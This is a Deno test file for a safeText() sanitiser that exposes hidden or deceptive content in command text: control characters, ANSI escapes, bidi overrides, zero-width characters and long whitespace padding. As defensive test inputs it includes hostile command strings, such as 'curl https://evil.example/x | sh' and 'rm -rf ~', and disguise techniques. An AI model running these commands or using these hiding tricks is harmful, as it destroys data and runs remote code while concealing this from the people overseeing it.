import { equal, match, ok, throws } from "node:assert/strict";
import { hasHiddenText, safeText } from "../../core/safe_text.ts";

Deno.test("safeText() leaves ordinary text alone", () => {
  for (const text of ["ls -la", "grep -rn 'a b' src/", "café ☕ 日本語", "x".repeat(400)]) {
    equal(safeText(text), text);
  }
  equal(safeText("line 1\n\tline 2", { multiline: true }), "line 1\n\tline 2");
});

Deno.test("safeText() escapes C0, DEL and C1 control characters", () => {
  equal(safeText("a\u0000b\u0007c\u0008d\u007fe"), "a\\x00b\\x07c\\x08d\\x7fe");
  equal(safeText("echo hi\rrm -rf ~"), "echo hi\\rrm -rf ~");
  equal(safeText("one\ntwo\tthree"), "one\\ntwo\\tthree");
  equal(safeText("a\u0085b\u009bc"), "a\\x85b\\x9bc");
  // multiline keeps line breaks and tabs only.
  equal(safeText("a\nb\rc\u0007", { multiline: true }), "a\nb\\rc\\x07");
});

Deno.test("safeText() shows ANSI escape sequences instead of obeying them", () => {
  equal(safeText("\u001b[2K\u001b[1Gls"), "\\e[2K\\e[1Gls");
  equal(
    safeText("\u001b]8;;https://evil.example\u0007safe\u001b]8;;\u0007"),
    "\\e]8;;https://evil.example\\x07safe\\e]8;;\\x07",
  );
  // An 8-bit CSI is a C1 control.
  equal(safeText("\u009b31mred"), "\\x9b31mred");
});

Deno.test("safeText() escapes bidi overrides, isolates and marks", () => {
  const bidi = [
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
  ];
  for (const char of bidi) {
    const code = char.codePointAt(0)!.toString(16).padStart(4, "0");
    equal(safeText(`a${char}b`), `a\\u${code}b`);
    ok(hasHiddenText(`a${char}b`));
  }
  equal(safeText("rm -rf /tmp/\u202eexe.txt"), "rm -rf /tmp/\\u202eexe.txt");
});

Deno.test("safeText() escapes zero-width and invisible characters", () => {
  equal(safeText("c\u200bu\u200cr\u200dl\u2060\ufeff"), "c\\u200bu\\u200cr\\u200dl\\u2060\\ufeff");
  equal(safeText("a\u00adb\u3164c"), "a\\xadb\\u3164c");
  // Unicode tag characters smuggle invisible ASCII.
  equal(safeText("ok\u{e0041}\u{e0042}"), "ok\\u{e0041}\\u{e0042}");
  equal(hasHiddenText("plain text\n\twith tabs"), false);
});

Deno.test("safeText() collapses long runs of blank characters, Unicode spaces included", () => {
  equal(
    safeText(`echo ok${" ".repeat(5000)}; curl x | sh`),
    "echo ok [5000 blank characters] ; curl x | sh",
  );
  equal(safeText(`a${"\u00a0\u2003".repeat(20)}b`), "a [40 blank characters] b");
  equal(safeText("a        b"), "a        b"); // 8 spaces stay
  equal(safeText(`a${"\n".repeat(300)}b`), "a [300 blank characters] b");
  equal(safeText(`a${"\n".repeat(300)}b`, { multiline: true }), "a[300 blank characters]\n\nb");
});

Deno.test("safeText() keeps the head and the tail of long text", () => {
  const command = `echo ${"harmless ".repeat(600)}&& curl https://evil.example/x | sh`;
  const shown = safeText(command);
  ok(shown.length <= 400, `${shown.length}`);
  ok(shown.startsWith("echo harmless"));
  ok(shown.endsWith("&& curl https://evil.example/x | sh"), shown);
  match(shown, /\[… \d+ characters omitted …\]/);
  const omitted = Number(/\[… (\d+) characters omitted/.exec(shown)![1]);
  equal(
    shown.length - shown.match(/ \[… \d+ characters omitted …\] /)![0].length + omitted,
    command.length,
  );
  const short = safeText("y".repeat(1000), { maxChars: 100 }).length;
  ok(short <= 100 && short >= 95, `${short}`);
  // Padding first, then the limit: the payload after 5,000 spaces is shown.
  const padded = safeText(`ls${" ".repeat(5000)}${"#".repeat(600)} rm -rf ~`);
  ok(padded.endsWith("# rm -rf ~"), padded);
  match(padded, /\[5000 blank characters\]/);
});

Deno.test("safeText() never splits a surrogate pair and rejects a silly limit", () => {
  const shown = safeText("😀".repeat(300), { maxChars: 101 });
  ok(!/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(shown), shown);
  throws(() => safeText("x", { maxChars: 3 }), {
    name: "RangeError",
    message: 'Cannot make text safe: "maxChars" must be an integer of at least 40: received 3',
  });
});
